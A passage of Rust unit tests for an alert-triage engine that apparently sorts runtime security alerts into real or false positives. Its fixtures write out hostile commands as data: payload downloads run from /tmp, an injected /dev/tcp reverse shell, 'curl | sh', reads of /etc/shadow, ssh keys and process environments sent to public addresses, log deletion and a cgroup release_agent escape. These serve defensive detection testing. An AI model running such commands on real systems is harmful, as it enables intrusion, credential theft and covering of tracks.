            json!({"evt.type":"execve","evt.rawres":0,"proc.sid":330,"evt.rawtime":5,"proc.name":"dpkg","proc.exepath":"/usr/bin/dpkg","proc.cmdline":"dpkg --status-fd 3 --configure openssl","proc.tty":0,"proc.pname":"unattended-upgr","proc.aname[2]":"systemd"}),
        )];
        let r = verdict_of(&lines, "Package manager");
        assert_eq!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
        // the same dpkg run from an ssh session is uncertain
        let lines = vec![l(
            json!({"evt.type":"execve","evt.rawres":0,"proc.sid":331,"evt.rawtime":5,"proc.name":"dpkg","proc.exepath":"/usr/bin/dpkg","proc.cmdline":"dpkg -i x.deb","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd"}),
        )];
        let r = verdict_of(&lines, "Package manager");
        assert_eq!(r[0].verdict, Verdict::Uncertain, "{:#?}", r[0]);
    }

    /// Removing the package log right after an install in the same session hides the
    /// install: not the seed story's quiet clean-up, so not a likely false positive.
    #[test]
    fn package_log_removed_after_an_install_is_not_a_likely_false_positive() {
        let lines = vec![
            l(
                json!({"evt.type":"execve","evt.rawres":0,"proc.sid":340,"evt.rawtime":100,"proc.name":"bash","proc.tty":34816,"proc.pname":"sshd"}),
            ),
            l(
                json!({"evt.type":"execve","evt.rawres":0,"proc.sid":340,"evt.rawtime":110,"proc.name":"apt-get","proc.exepath":"/usr/bin/apt-get","proc.cmdline":"apt-get install -y socat","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd"}),
            ),
            l(
                json!({"evt.type":"unlinkat","evt.rawres":0,"proc.sid":340,"evt.rawtime":120,"proc.name":"rm","proc.exepath":"/usr/bin/rm","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd","fs.path.name":"/var/log/dpkg.log"}),
            ),
        ];
        let r = verdict_of(&lines, "Clear Log Activities");
        assert_eq!(r.len(), 1);
        assert!(
            signals(&r[0]).contains(&"target_housekeeping"),
            "{:#?}",
            r[0]
        );
        assert_ne!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
    }

    /// The package log removed by a person's session is anchored (`quiet_session`) only when
    /// nothing in the whole session counts toward an attack by the strict person test: a
    /// session that escaped from a program run through sudo to a shell, or read a
    /// workload's environment, first, is not a quiet one (tests/adversary.rs found both).
    #[test]
    fn package_log_removed_after_a_step_toward_an_attack_is_not_anchored() {
        let session = |extra: Vec<serde_json::Value>| {
            let mut lines = vec![l(
                json!({"evt.type":"execve","evt.rawres":0,"proc.sid":350,"evt.rawtime":100,"proc.name":"bash","proc.tty":34816,"proc.pname":"sshd"}),
            )];
            lines.extend(extra.into_iter().map(l));
            lines.push(l(
                json!({"evt.type":"unlinkat","evt.rawres":0,"proc.sid":350,"evt.rawtime":120,"proc.name":"rm","proc.exepath":"/usr/bin/rm","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd","fs.path.name":"/var/log/dpkg.log"}),
            ));
            verdict_of(&lines, "Clear Log Activities")
        };
        let r = session(Vec::new());
        assert_eq!(r.len(), 1, "{r:#?}");
        assert_eq!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
        for (why, step) in [
            (
                "an escape from sudo vim",
                json!({"evt.type":"execve","evt.rawres":0,"proc.sid":350,"evt.rawtime":110,"proc.name":"bash","proc.exepath":"/usr/bin/bash","proc.cmdline":"/bin/bash","proc.tty":34816,"proc.pname":"vim","proc.aname[2]":"sudo","proc.aname[3]":"bash","proc.aname[4]":"sshd"}),
            ),
            (
                "a workload's environment read",
                json!({"evt.type":"openat","evt.rawres":3,"fd.num":3,"evt.is_open_read":true,"proc.sid":350,"evt.rawtime":110,"proc.name":"cat","proc.exepath":"/usr/bin/cat","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd","fd.name":"/proc/1/environ"}),
            ),
        ] {
            let r = session(vec![step]);
            assert_eq!(r.len(), 1, "{why}: {r:#?}");
            assert!(
                signals(&r[0]).contains(&"target_housekeeping"),
                "{why}: {:#?}",
                r[0]
            );
            assert_ne!(
                r[0].verdict,
                Verdict::LikelyFalsePositive,
                "{why}: {:#?}",
                r[0]
            );
            assert_eq!(r[0].anchor, None, "{why}");
        }
    }

    /// An attacker's exec into a production pod: a tty through the runtime, then a payload
    /// fetched and run, then a log deleted. Not a person's quiet session.
    #[test]
    fn attacker_exec_into_a_pod_is_not_a_false_positive() {
        let base = json!({"proc.sid":300,"container.id":"abc123abc123","container.image.repository":"shop/web","proc.tty":34817,"evt.rawres":0});
        let mk = |extra: serde_json::Value| {
            let mut v = base.clone();
            for (k, x) in extra.as_object().unwrap() {
                v[k] = x.clone();
            }
            l(v)
        };
        let lines = vec![
            mk(
                json!({"evt.type":"execve","evt.rawtime":100,"proc.name":"bash","proc.pname":"runc"}),
            ),
            mk(
                json!({"evt.type":"execve","evt.rawtime":110,"proc.name":"curl","proc.pname":"bash","proc.aname[2]":"runc","proc.cmdline":"curl -so /tmp/k http://203.0.113.7/k"}),
            ),
            mk(
                json!({"evt.type":"execve","evt.rawtime":120,"proc.name":"k","proc.exepath":"/tmp/k","proc.pname":"bash","proc.aname[2]":"runc"}),
            ),
            mk(
                json!({"evt.type":"unlinkat","evt.rawtime":130,"proc.name":"rm","proc.exepath":"/usr/bin/rm","proc.pname":"bash","proc.aname[2]":"runc","fs.path.name":"/var/log/dpkg.log"}),
            ),
        ];
        let r = verdict_of(&lines, "Clear Log Activities");
        assert_eq!(r.len(), 1);
        assert_ne!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
        assert!(
            !signals(&r[0]).contains(&"interactive_session"),
            "{:?}",
            signals(&r[0])
        );
        assert!(signals(&r[0]).contains(&"session_download"));
    }

    /// A reverse shell at a pty: the terminal is real but stdin is a socket.
    #[test]
    fn reverse_shell_at_a_pty_is_not_a_false_positive() {
        let lines = vec![l(
            json!({"evt.type":"unlinkat","evt.rawres":0,"proc.sid":301,"evt.rawtime":5,"proc.name":"rm","proc.exepath":"/usr/bin/rm","proc.tty":34818,"proc.pname":"bash","proc.aname[2]":"sshd","proc.stdin_type":"ipv4","fs.path.name":"/var/log/dpkg.log"}),
        )];
        let r = verdict_of(&lines, "Clear Log Activities");
        assert_ne!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
        assert!(signals(&r[0]).contains(&"network_stdio"));
        assert!(!signals(&r[0]).contains(&"interactive_session"));
    }

    /// A service account logging in over ssh and fetching a payload.
    #[test]
    fn service_account_login_with_a_payload_is_not_a_false_positive() {
        let u = json!({"proc.sid":302,"user.name":"www-data","user.uid":33,"user.loginuid":33,"proc.tty":34819,"evt.rawres":0});
        let mk = |extra: serde_json::Value| {
            let mut v = u.clone();
            for (k, x) in extra.as_object().unwrap() {
                v[k] = x.clone();
            }
            l(v)
        };
        let lines = vec![
            mk(
                json!({"evt.type":"execve","evt.rawtime":10,"proc.name":"wget","proc.pname":"bash","proc.aname[2]":"sshd","proc.cmdline":"wget http://198.51.100.4/x.tgz"}),
            ),
            mk(
                json!({"evt.type":"unlinkat","evt.rawtime":20,"proc.name":"rm","proc.exepath":"/usr/bin/rm","proc.pname":"bash","proc.aname[2]":"sshd","fs.path.name":"/var/log/dpkg.log"}),
            ),
        ];
        let r = verdict_of(&lines, "Clear Log Activities");
        assert_ne!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
        let s = signals(&r[0]);
        assert!(
            s.contains(&"system_account_terminal") && s.contains(&"session_download"),
            "{s:?}"
        );
    }

    /// A web worker reading process environments through a shell.
    #[test]
    fn web_worker_reading_environments_is_not_a_false_positive() {
        let lines = vec![l(
            json!({"evt.type":"openat","evt.rawres":3,"proc.sid":303,"evt.rawtime":5,"proc.name":"cat","proc.aname[1]":"sh","proc.aname[2]":"php-fpm","user.name":"www-data","user.uid":33,"fd.name":"/proc/1/environ"}),
        )];
        let r = verdict_of(&lines, "Read environ");
        assert_eq!(r[0].verdict, Verdict::LikelyReal, "{:#?}", r[0]);
    }

    /// A database's own archive command through a shell: not likely real; an injected
    /// command under the same database still is.
    #[test]
    fn database_archive_command_is_not_likely_real() {
        let ok = vec![l(
            json!({"evt.type":"execve","evt.rawres":0,"proc.sid":304,"evt.rawtime":5,"proc.name":"sh","proc.pname":"postgres","user.name":"postgres","user.uid":999,"proc.cmdline":"sh -c test ! -f /mnt/archive/0000000100000000000000A1 && cp pg_wal/0000000100000000000000A1 /mnt/archive/0000000100000000000000A1"}),
        )];
        let r = verdict_of(&ok, "Run shell untrusted");
        assert_ne!(r[0].verdict, Verdict::LikelyReal, "{:#?}", r[0]);
        assert!(signals(&r[0]).contains(&"known_benign"));
        let bad = vec![l(
            json!({"evt.type":"execve","evt.rawres":0,"proc.sid":305,"evt.rawtime":5,"proc.name":"sh","proc.pname":"postgres","user.name":"postgres","user.uid":999,"proc.cmdline":"sh -c curl -s http://203.0.113.9/pg_wal/x | sh"}),
        )];
        let r = verdict_of(&bad, "Run shell untrusted");
        assert!(!signals(&r[0]).contains(&"known_benign"), "{:#?}", r[0]);
        assert_ne!(r[0].verdict, Verdict::LikelyFalsePositive);
    }

    /// A web application sending mail: `sh -c sendmail` under php-fpm.
    #[test]
    fn web_app_mail_is_not_likely_real() {
        let ok = vec![l(
            json!({"evt.type":"execve","evt.rawres":0,"proc.sid":306,"evt.rawtime":5,"proc.name":"sh","proc.pname":"php-fpm","proc.cmdline":"sh -c /usr/sbin/sendmail -t -i"}),
        )];
        let r = verdict_of(&ok, "Run shell untrusted");
        assert_ne!(r[0].verdict, Verdict::LikelyReal, "{:#?}", r[0]);
        let bad = vec![l(
            json!({"evt.type":"execve","evt.rawres":0,"proc.sid":307,"evt.rawtime":5,"proc.name":"sh","proc.pname":"php-fpm","proc.cmdline":"sh -c sendmail x; cat /etc/passwd"}),
        )];
        let r = verdict_of(&bad, "Run shell untrusted");
        assert_eq!(r[0].verdict, Verdict::LikelyReal, "{:#?}", r[0]);
    }

    /// A web application's image conversion through `sh -c` is a weaker service shell
    /// than the same shell-out shape running an injected reverse shell.
    #[test]
    fn a_services_plain_shell_out_is_weaker_than_a_web_shell() {
        let ok = vec![l(
            json!({"evt.type":"execve","evt.rawres":0,"proc.sid":320,"evt.rawtime":5,"proc.name":"sh","proc.exepath":"/usr/bin/dash","proc.pname":"php-fpm","user.name":"www-data","user.uid":33,"proc.cmdline":"sh -c convert /tmp/phpQk8s2L -resize 320x320 /var/www/gallery/thumbs/img_0912.jpg"}),
        )];
        let r = verdict_of(&ok, "Run shell untrusted");
        let s = signals(&r[0]);
        // The bundled catalogue's `web_app_media` entry explains this shell-out (anchored:
        // likely false positive); without it the plain command is the weaker signal.
        assert!(
            !s.contains(&"service_shell")
                && (s.contains(&"service_shell_command") || s.contains(&"known_benign")),
            "{s:?}"
        );
        assert_ne!(r[0].verdict, Verdict::LikelyReal, "{:#?}", r[0]);
        let bad = vec![
            l(
                json!({"evt.type":"execve","evt.rawres":0,"proc.sid":321,"evt.rawtime":5,"proc.name":"sh","proc.exepath":"/usr/bin/dash","proc.pname":"php-fpm","user.name":"www-data","user.uid":33,"proc.cmdline":"sh -c convert 'https://x\";bash -c \"bash -i >& /dev/tcp/198.51.100.60/443 0>&1' out.png"}),
            ),
            l(
                json!({"evt.type":"connect","evt.rawres":0,"proc.sid":321,"evt.rawtime":6,"proc.name":"bash","proc.pname":"sh","proc.aname[2]":"php-fpm","fd.name":"10.0.0.2:40000->198.51.100.60:443"}),
            ),
        ];
        let r = verdict_of(&bad, "Run shell untrusted");
        let s = signals(&r[0]);
        assert!(
            s.contains(&"service_shell") && !s.contains(&"service_shell_command"),
            "{s:?}"
        );
        assert_eq!(r[0].verdict, Verdict::LikelyReal, "{:#?}", r[0]);
        // A plain command whose act is itself flagged (a web server's shell deleting the
        // package log): both alerts stay likely real.
        let del = vec![
            l(
                json!({"evt.type":"execve","evt.rawres":0,"proc.sid":322,"evt.rawtime":5,"proc.name":"sh","proc.exepath":"/usr/bin/dash","proc.pname":"php-fpm","proc.cmdline":"sh -c rm -f /var/log/dpkg.log"}),
            ),
            l(
                json!({"evt.type":"unlinkat","evt.rawres":0,"proc.sid":322,"evt.rawtime":6,"proc.name":"rm","proc.exepath":"/usr/bin/rm","proc.pname":"sh","proc.aname[2]":"php-fpm","proc.pcmdline":"sh -c rm -f /var/log/dpkg.log","fs.path.name":"/var/log/dpkg.log"}),
            ),
        ];
        for rule in ["Run shell untrusted", "Clear Log Activities"] {
            let r = verdict_of(&del, rule);
            assert_eq!(r[0].verdict, Verdict::LikelyReal, "{rule}: {:#?}", r[0]);
        }
    }

    /// A cron job reading keys and shadow and uploading the archive to the site's own
    /// backup server is not a stealer; the same job uploading to a public address is
    /// weighed as one, and so is the same read in a person's session.
    #[test]
    fn a_scheduled_jobs_credentials_sent_inside_the_site_are_not_stolen() {
        let job = |sid: i64, dest: &str| {
            vec![
                l(
                    json!({"evt.type":"openat","evt.rawres":3,"evt.is_open_read":true,"fd.num":3,"proc.sid":sid,"evt.rawtime":5,"proc.name":"tar","proc.tty":0,"proc.pname":"sh","proc.aname[2]":"cron","fd.name":"/etc/shadow"}),
                ),
                l(
                    json!({"evt.type":"openat","evt.rawres":3,"evt.is_open_read":true,"fd.num":3,"proc.sid":sid,"evt.rawtime":6,"proc.name":"tar","proc.tty":0,"proc.pname":"sh","proc.aname[2]":"cron","fd.name":"/home/ops/.ssh/id_ed25519"}),
                ),
                l(
                    json!({"evt.type":"execve","evt.rawres":0,"proc.sid":sid,"evt.rawtime":7,"proc.name":"curl","proc.tty":0,"proc.pname":"sh","proc.aname[2]":"cron","proc.cmdline":format!("curl -sf -T /var/backups/etc.tgz http://{dest}:8000/up/")}),
                ),
            ]
        };
        let r = verdict_of(&job(330, "10.0.4.7"), "Read ssh");
        assert!(
            !signals(&r[0]).contains(&"session_credentials"),
            "{:#?}",
            r[0]
        );
        assert_ne!(r[0].verdict, Verdict::LikelyReal, "{:#?}", r[0]);
        let r = verdict_of(&job(331, "203.0.113.50"), "Read ssh");
        assert!(
            signals(&r[0]).contains(&"session_credentials"),
            "{:#?}",
            r[0]
        );
        assert_eq!(r[0].verdict, Verdict::LikelyReal, "{:#?}", r[0]);
        // The same reads and upload from a web server's child: not a job.
        let web: Vec<String> = job(332, "10.0.4.7")
            .iter()
            .map(|x| x.replace("\"cron\"", "\"nginx\""))
            .collect();
        let r = verdict_of(&web, "Read ssh");
        assert!(
            signals(&r[0]).contains(&"session_credentials"),
            "{:#?}",
            r[0]
        );
    }

    /// A scheduled job's network tool probing a port on the site's network is not an
    /// outbound step; the same probe of a public address is.
    #[test]
    fn a_scheduled_jobs_connection_inside_the_site_is_not_outbound() {
        let job = |sid: i64, dest: &str| {
            vec![
                l(
                    json!({"evt.type":"connect","evt.rawres":0,"proc.sid":sid,"evt.rawtime":5,"proc.name":"nc","proc.tty":0,"proc.pname":"sh","proc.aname[2]":"cron","fd.name":format!("10.0.0.2:40000->{dest}:4444")}),
                ),
                l(
                    json!({"evt.type":"openat","evt.rawres":3,"evt.is_open_read":true,"fd.num":3,"proc.sid":sid,"evt.rawtime":6,"proc.name":"cat","proc.tty":0,"proc.pname":"sh","proc.aname[2]":"cron","fd.name":"/home/ops/.ssh/known_hosts"}),
                ),
            ]
        };
        let r = verdict_of(&job(340, "10.0.4.7"), "Read ssh");
        assert!(!signals(&r[0]).contains(&"session_outbound"), "{:#?}", r[0]);
        let r = verdict_of(&job(341, "203.0.113.50"), "Read ssh");
        assert!(signals(&r[0]).contains(&"session_outbound"), "{:#?}", r[0]);
        assert_eq!(r[0].verdict, Verdict::LikelyReal, "{:#?}", r[0]);
    }

    /// A build tool running the binary it just linked in a temp directory.
    #[test]
    fn build_tool_generated_binary_is_not_likely_real() {
        let lines = vec![
            l(
                json!({"evt.type":"openat","evt.rawres":4,"evt.is_open_write":true,"fd.num":4,"proc.sid":308,"evt.rawtime":5,"proc.name":"link","proc.pname":"go","fd.name":"/tmp/go-build2291/b001/exe/main"}),
            ),
            l(
                json!({"evt.type":"execve","evt.rawres":0,"proc.sid":308,"evt.rawtime":6,"proc.name":"main","proc.exepath":"/tmp/go-build2291/b001/exe/main","proc.pname":"go","proc.aname[2]":"bash"}),
            ),
        ];
        let r = verdict_of(&lines, "Exec from tmp");
        assert_ne!(r[0].verdict, Verdict::LikelyReal, "{:#?}", r[0]);
        assert!(!signals(&r[0]).contains(&"dropped_binary"));
        // The same path written by curl is dropped.
        let lines = vec![
            l(
                json!({"evt.type":"execve","evt.rawres":0,"proc.sid":309,"evt.rawtime":4,"proc.name":"curl","proc.pname":"sh","proc.cmdline":"curl -o /tmp/x/main http://203.0.113.5/m"}),
            ),
            l(
                json!({"evt.type":"execve","evt.rawres":0,"proc.sid":309,"evt.rawtime":6,"proc.name":"main","proc.exepath":"/tmp/x/main","proc.pname":"sh"}),
            ),
        ];
        let r = verdict_of(&lines, "Exec from tmp");
        assert_eq!(r[0].verdict, Verdict::LikelyReal, "{:#?}", r[0]);
    }

    /// A terminal helper probing the terminal in a person's session.
    #[test]
    fn terminal_probe_is_not_likely_real() {
        let lines = vec![l(
            json!({"evt.type":"execve","evt.rawres":0,"proc.sid":310,"evt.rawtime":5,"proc.name":"tput","proc.exepath":"/usr/bin/tput","proc.cmdline":"tput cols","proc.tty":34820,"proc.pname":"bash","proc.aname[2]":"sshd"}),
        )];
        let r = verdict_of(&lines, "Terminal probe");
        assert_eq!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
    }

    /// A piped exec through the runtime (no tty) is not a person's session.
    #[test]
    fn piped_runtime_exec_is_not_interactive() {
        let lines = vec![l(
            json!({"evt.type":"unlinkat","evt.rawres":0,"proc.sid":311,"evt.rawtime":5,"proc.name":"rm","proc.exepath":"/usr/bin/rm","proc.tty":0,"proc.pname":"sh","proc.aname[2]":"runc","fs.path.name":"/var/log/dpkg.log"}),
        )];
        let r = verdict_of(&lines, "Clear Log Activities");
        assert!(
            !signals(&r[0]).contains(&"interactive_session"),
            "{:#?}",
            r[0]
        );
        assert_ne!(r[0].verdict, Verdict::LikelyFalsePositive);
    }

    /// The same deletion by the same binary with the same lineage shape, once by an
    /// operator and once after a download: one signature, two verdicts, two clusters.
    #[test]
    fn mixed_cluster_is_split_by_verdict() {
        let op = |sid: i64, t: i64| {
            l(
                json!({"evt.type":"unlinkat","evt.rawres":0,"proc.sid":sid,"evt.rawtime":t,"proc.name":"rm","proc.exepath":"/usr/bin/rm","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd","fs.path.name":"/var/log/dpkg.log"}),
            )
        };
        let lines = vec![
            l(
                json!({"evt.type":"execve","evt.rawres":0,"proc.sid":400,"evt.rawtime":1,"proc.name":"bash","proc.tty":34816,"proc.pname":"sshd"}),
            ),
            op(400, 2),
            l(
                json!({"evt.type":"execve","evt.rawres":0,"proc.sid":401,"evt.rawtime":1,"proc.name":"curl","proc.cmdline":"curl -o /tmp/p http://203.0.113.1/p","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd"}),
            ),
            op(401, 2),
        ];
        let r = verdict_of(&lines, "Clear Log Activities");
        assert_eq!(r.len(), 2, "{r:#?}");
        assert_ne!(r[0].verdict, r[1].verdict);
        assert_ne!(r[0].cluster, r[1].cluster);
        assert_eq!(r[0].signature, r[1].signature);
        assert_eq!(r[0].members, vec![1]);
        assert_eq!(r[1].members, vec![3]);
        // A download in the session cancels the person's session.
        assert!(signals(&r[0]).contains(&"interactive_session"));
        assert!(
            !signals(&r[1]).contains(&"interactive_session"),
            "{:#?}",
            r[1]
        );
        assert!(r.iter().all(|c| c.cluster.len() == 12));
        // Ids are stable: the same input gives the same ids.
        let again = verdict_of(&lines, "Clear Log Activities");
        assert_eq!(again[0].cluster, r[0].cluster);
        assert_eq!(again[1].cluster, r[1].cluster);
    }

    /// Alerts that look alike and get the same verdict and the same weighed signals are
    /// still split when their sessions show different steps toward an attack by the strict
    /// person test (issue 11, session 9): a hidden file staged in a temporary directory, an
    /// account granted through a program's own subcommand. Without the split the operator's
    /// and the intruder's deletion share one cluster, and tuning that cluster silences both.
    #[test]
    fn a_cluster_is_split_by_the_steps_its_sessions_show() {
        let rm = |sid: i64| {
            l(
                json!({"evt.type":"unlinkat","evt.rawres":0,"proc.sid":sid,"evt.rawtime":9,"proc.name":"rm","proc.exepath":"/usr/bin/rm","proc.cmdline":"rm /var/log/app/old.log","proc.tty":0,"proc.pname":"bash","proc.aname[2]":"sshd","fs.path.name":"/var/log/app/old.log"}),
            )
        };
        let lines = vec![
            rm(600),
            l(
                json!({"evt.type":"openat","evt.rawres":3,"proc.sid":601,"evt.rawtime":2,"proc.name":"bash","proc.exepath":"/usr/bin/bash","proc.tty":0,"proc.pname":"sshd","evt.is_open_write":true,"evt.arg.flags":"O_WRONLY|O_CREAT","fd.name":"/tmp/.k"}),
            ),
            rm(601),
            l(
                json!({"evt.type":"execve","evt.rawres":0,"proc.sid":602,"evt.rawtime":2,"proc.name":"kubectl","proc.exepath":"/usr/bin/kubectl","proc.cmdline":"kubectl create clusterrolebinding sa-x --clusterrole=cluster-admin --serviceaccount=a:b","proc.tty":0,"proc.pname":"bash","proc.aname[2]":"sshd"}),
            ),
            rm(602),
            rm(603),
        ];
        let r = verdict_of(&lines, "Clear Log Activities");
        assert_eq!(r.len(), 3, "{r:#?}");
        // The grant: the same verdict and signals as the clean deletions, only the steps
        // tell them apart. The hidden staging file is also a step no routine work takes
        // (`session_attack_step`), weighed as well.
        assert_eq!(r[2].verdict, r[0].verdict, "{r:#?}");
        assert_eq!(signals(&r[2]), signals(&r[0]), "{r:#?}");
        assert!(signals(&r[1]).contains(&"session_attack_step"), "{r:#?}");
        assert_eq!(r[0].members, vec![0, 5]);
        assert_eq!(r[1].members, vec![2]);
        assert_eq!(r[2].members, vec![4]);
        assert!(r.iter().all(|c| c.signature == r[0].signature));
    }

    /// Two alerts of one person's quiet session do not count against each other, and a
    /// session quell did not see (bare alerts) is never called quiet.
    #[test]
    fn a_benign_sessions_alerts_do_not_count_against_each_other() {
        let lines = [
            l(
                json!({"evt.type":"execve","evt.rawres":0,"proc.sid":500,"evt.rawtime":1,"proc.name":"bash","proc.tty":34816,"proc.pname":"sshd"}),
            ),
            l(
                json!({"evt.type":"execve","evt.rawres":0,"proc.sid":500,"evt.rawtime":2,"proc.name":"tput","proc.exepath":"/usr/bin/tput","proc.cmdline":"tput cols","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd"}),
            ),
            l(
                json!({"evt.type":"unlinkat","evt.rawres":0,"proc.sid":500,"evt.rawtime":3,"proc.name":"rm","proc.exepath":"/usr/bin/rm","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd","fs.path.name":"/var/log/dpkg.log"}),
            ),
        ];
        let refs: Vec<&str> = lines.iter().map(String::as_str).collect();
        let all = run(&refs, Lang::En, &History::empty());
        assert_eq!(all.len(), 2, "{all:#?}");
        for c in &all {
            assert!(!signals(c).contains(&"session_other_alerts"), "{c:#?}");
        }
        assert!(
            all.iter()
                .all(|c| c.verdict == Verdict::LikelyFalsePositive),
            "{all:#?}"
        );
        let op = run(OPERATOR, Lang::En, &History::empty());
        assert!(signals(&op[0]).contains(&"session_quiet"), "{:#?}", op[0]);
        let bare = [
            r#"{"rule":"Clear Log Activities","output_fields":{"proc.name":"rm","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd","fs.path.name":"/var/log/dpkg.log","proc.sid":9}}"#,
        ];
        let r = run(&bare, Lang::En, &History::empty());
        assert!(!signals(&r[0]).contains(&"session_quiet"), "{:#?}", r[0]);
    }

    /// A person's session that wrote a cgroup's release agent (a container escape: the
    /// kernel runs it as root on the host) is not quiet, and the write is a step no
    /// routine work takes (the blind holdout29: a shell exec'd into a privileged pod
    /// mounting a cgroup hierarchy and writing `release_agent` was called quiet). The
    /// same session without the write is quiet.
    #[test]
    fn a_session_writing_a_release_agent_is_not_quiet() {
        let session = |helper: Option<&str>| {
            let mut v = vec![l(
                json!({"evt.type":"execve","evt.rawres":0,"proc.sid":510,"evt.rawtime":1,"proc.name":"bash","proc.tty":34816,"proc.pname":"sshd"}),
            )];
            if let Some(p) = helper {
                v.push(l(
                    json!({"evt.type":"openat","evt.rawres":3,"evt.is_open_write":true,"evt.arg.flags":"O_WRONLY|O_CREAT|O_TRUNC","fd.num":3,"proc.sid":510,"evt.rawtime":2,"proc.name":"bash","proc.tty":34816,"proc.pname":"sshd","fd.name":p}),
                ));
            }
            v.push(l(
                json!({"evt.type":"unlinkat","evt.rawres":0,"proc.sid":510,"evt.rawtime":3,"proc.name":"rm","proc.exepath":"/usr/bin/rm","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd","fs.path.name":"/var/log/dpkg.log"}),
            ));
            verdict_of(&v, "Clear Log Activities")
        };
        let quiet = session(None);
        assert!(
            signals(&quiet[0]).contains(&"session_quiet"),
            "{:#?}",
            quiet[0]
        );
        for p in ["/tmp/cg/release_agent", "/sys/kernel/uevent_helper"] {
            let r = session(Some(p));
            assert!(
                !signals(&r[0]).contains(&"session_quiet"),
                "{p}: {:#?}",
                r[0]
            );
            assert!(
                signals(&r[0]).contains(&"session_attack_step"),
                "{p}: {:#?}",
                r[0]
            );
            assert_ne!(
                r[0].verdict,
                Verdict::LikelyFalsePositive,
                "{p}: {:#?}",
                r[0]
            );
        }
    }

    /// Fitted weights change the score; the table's weights are the default.
    #[test]
    fn weights_come_from_the_table() {
        let r = run(OPERATOR, Lang::En, &History::empty());
        let mut w = signals::bundled().weights();
        let base: f64 = r[0].features.iter().map(|(id, f)| w[id.as_str()] * f).sum();
        assert!(
            (sigmoid(base) - r[0].score).abs() < 0.002,
            "{base} {}",
            r[0].score
        );
        w.insert("interactive_session".into(), 0.0);
        let e = engine();
        let recs = parse_records(&OPERATOR.join("\n"), "t").unwrap();
        let cat = Catalogue::builtin();
        let h = History::empty();
        let t = Triage {
            engine: &e,
            catalogue: &cat,
            history: &h,
            lang: Lang::En,
            hostname: "h",
        };
        let r2 = t.run_with(&recs, &w, &mut |_, _| {});
        assert!(r2[0].score < r[0].score);
    }

    /// The streaming form gives the same reports as `run`, with members as input indices.
    #[test]
    fn stream_matches_run() {
        let mut lines: Vec<&str> = Vec::new();
        lines.extend(OPERATOR);
        lines.push(r#"{"evt.type":"close","proc.sid":50,"evt.rawtime":150,"proc.name":"bash"}"#);
        lines.extend(ATTACK);
        let e = engine();
        let recs = parse_records(&lines.join("\n"), "t").unwrap();
        let cat = Catalogue::builtin();
        let h = History::empty();
        let t = Triage {
            engine: &e,
            catalogue: &cat,
            history: &h,
            lang: Lang::En,
            hostname: "h",
        };
        let a = t.run(&recs);
        let mut st = t.stream();
        for r in recs.iter().cloned() {
            st.push(r);
        }
        assert_eq!(st.pushed(), recs.len());
        let b = st.finish(&signals::bundled().weights(), &mut |_, _| {});
        assert_eq!(a.len(), b.len());
        for (x, y) in a.iter().zip(&b) {
            assert_eq!(
                (&x.cluster, x.verdict, x.score, &x.members),
                (&y.cluster, y.verdict, y.score, &y.members)
            );
            assert_eq!(x.summary, y.summary);
        }
    }

    /// A backup agent reading keys by design is not weighed down by them; `cat` reading the
    /// same key then connecting out from a shell is.
    #[test]
    fn backup_agent_reading_keys_is_not_a_stealer() {
        let agent = vec![
            l(
                json!({"evt.type":"execve","evt.rawres":0,"proc.sid":600,"evt.rawtime":4,"proc.name":"restic","proc.pname":"sh","proc.aname[2]":"cron","proc.cmdline":"restic backup /home"}),
            ),
            l(
                json!({"evt.type":"openat","evt.rawres":3,"evt.is_open_read":true,"fd.num":3,"proc.sid":600,"evt.rawtime":5,"proc.name":"restic","proc.pname":"sh","proc.aname[2]":"cron","fd.name":"/home/ops/.ssh/id_ed25519"}),
            ),
            l(
                json!({"evt.type":"connect","evt.rawres":0,"proc.sid":600,"evt.rawtime":6,"proc.name":"restic","fd.name":"10.0.0.5:40000->10.0.8.20:9000"}),
            ),
        ];
        let r = verdict_of(&agent, "Read ssh");
        assert_eq!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
        // The same keys sent to a public address: not the agent's job to excuse (adversary).
        let mut public = agent.clone();
        public[2] = l(
            json!({"evt.type":"connect","evt.rawres":0,"proc.sid":600,"evt.rawtime":6,"proc.name":"restic","fd.name":"10.0.0.5:40000->203.0.113.20:9000"}),
        );
        let r = verdict_of(&public, "Read ssh");
        assert_ne!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
        assert!(
            signals(&r[0]).contains(&"credentials_sent_out"),
            "{:#?}",
            r[0]
        );
        let s = signals(&r[0]);
        assert!(
            !s.contains(&"target_sensitive")
                && !s.contains(&"session_outbound")
                && !s.contains(&"session_credentials"),
            "{s:?}"
        );
        // The agent's alert alone (no other event of its run seen): not likely real.
        let r = verdict_of(&agent[1..], "Read ssh");
        assert_ne!(r[0].verdict, Verdict::LikelyReal, "{:#?}", r[0]);
        let thief = vec![
            l(
                json!({"evt.type":"openat","evt.rawres":3,"evt.is_open_read":true,"fd.num":3,"proc.sid":601,"evt.rawtime":5,"proc.name":"cat","proc.pname":"sh","proc.aname[2]":"cron","fd.name":"/home/ops/.ssh/id_ed25519"}),
            ),
            l(
                json!({"evt.type":"connect","evt.rawres":0,"proc.sid":601,"evt.rawtime":6,"proc.name":"sh","fd.name":"10.0.0.5:40000->203.0.113.20:4444"}),
            ),
        ];
        let r = verdict_of(&thief, "Read ssh");
        assert_eq!(r[0].verdict, Verdict::LikelyReal, "{:#?}", r[0]);
        let s = signals(&r[0]);
        assert!(
            s.contains(&"target_sensitive") && s.contains(&"session_outbound"),
            "{s:?}"
        );
    }

    #[test]
